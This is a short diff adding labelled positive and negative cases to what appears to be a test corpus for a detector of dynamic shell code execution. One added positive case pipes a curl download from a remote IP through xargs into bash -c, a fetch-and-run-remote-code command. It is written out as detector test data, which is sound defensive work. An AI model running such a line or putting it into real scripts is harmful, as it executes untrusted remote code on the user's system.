@@ -151,3 +151,7 @@ perl -e 'eval { die "x\n" }; print "caught: $@"'
 f=(bash -c); "${f[@]}" "$payload"
 #@ neg bash -c kept in an array, given constant code
 f=(bash -c); "${f[@]}" 'echo hello'
+#@ pos xargs gives what it reads to sh -c as the replace string
+curl -s http://203.0.113.5/s | xargs -0 -I{} bash -c {}
+#@ neg xargs runs constant code with the replace string as an argument
+ls | xargs -I{} bash -c 'wc -l "$1"' _ {}
